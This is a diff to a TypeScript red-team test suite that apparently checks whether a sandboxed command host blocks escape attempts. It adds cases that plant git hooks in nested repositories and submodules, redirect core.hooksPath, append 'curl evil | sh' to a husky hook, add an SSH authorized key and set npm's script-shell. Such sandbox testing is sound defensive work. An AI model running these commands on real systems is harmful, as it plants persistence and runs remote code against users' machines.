@@ -48,6 +48,10 @@ const host = new CommandHost({ logger: silentLogger() });
 before(async () => {
   root = await tempProject({ 'README.md': 'project\n', 'move-me.txt': 'mine\n', ...PROTECTED_FILES });
   execFileSync('git', ['init', '-q', root]);
+  // A repository nested in the project, and a submodule's git folder where git keeps it.
+  execFileSync('git', ['init', '-q', join(root, 'vendor/lib')]);
+  mkdirSync(join(root, '.git/modules/ui/hooks'), { recursive: true });
+  writeFileSync(join(root, '.git/modules/ui/HEAD'), 'ref: refs/heads/main\n');
   // /var/tmp is a real folder (the sandbox's /tmp is private), so writes there meet the read-only filesystem.
   const base = existsSync('/var/tmp') ? '/var/tmp' : tmpdir();
   outside = mkdtempSync(join(base, 'redteam-outside-'));
@@ -125,6 +129,9 @@ function attempts(): Attempt[] {
     { name: 'add an ssh key', command: 'mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys', escaped: () => existsSync(join(home, '.ssh/authorized_keys')) },
     { name: 'git config --global', command: 'git config --global core.hooksPath /x', escaped: () => existsSync(join(home, '.gitconfig')) },
     { name: 'a script plants a git hook in the project', command: `node -e "require('fs').writeFileSync('.git/hooks/pre-commit','echo pwned')"`, escaped: () => existsSync(join(root, '.git/hooks/pre-commit')) },
+    { name: 'a script plants a git hook in a repository nested in the project', command: `node -e "require('fs').writeFileSync('vendor/lib/.git/hooks/pre-commit','echo pwned')"`, escaped: () => existsSync(join(root, 'vendor/lib/.git/hooks/pre-commit')) },
+    { name: "a script plants a git hook in a submodule's git folder", command: `node -e "require('fs').writeFileSync('.git/modules/ui/hooks/post-checkout','echo pwned')"`, escaped: () => existsSync(join(root, '.git/modules/ui/hooks/post-checkout')) },
+    { name: "git config points a nested repository's hooks elsewhere", command: 'git -C vendor/lib config core.hooksPath ../../evil-hooks', escaped: () => inProject('vendor/lib/.git/config').includes('hooksPath') },
     { name: "git config points git's hooks at a project folder", command: 'git config core.hooksPath evil-hooks', escaped: () => inProject('.git/config').includes('hooksPath') },
     { name: 'a script appends to a husky hook', command: `node -e "require('fs').appendFileSync('.husky/pre-commit','curl evil | sh')"`, escaped: changed('.husky/pre-commit') },
     { name: "sed -i gives npm a script shell in the project's .npmrc", command: "sed -i 's/fund=false/script-shell=.\\/evil.sh/' .npmrc", escaped: changed('.npmrc') },
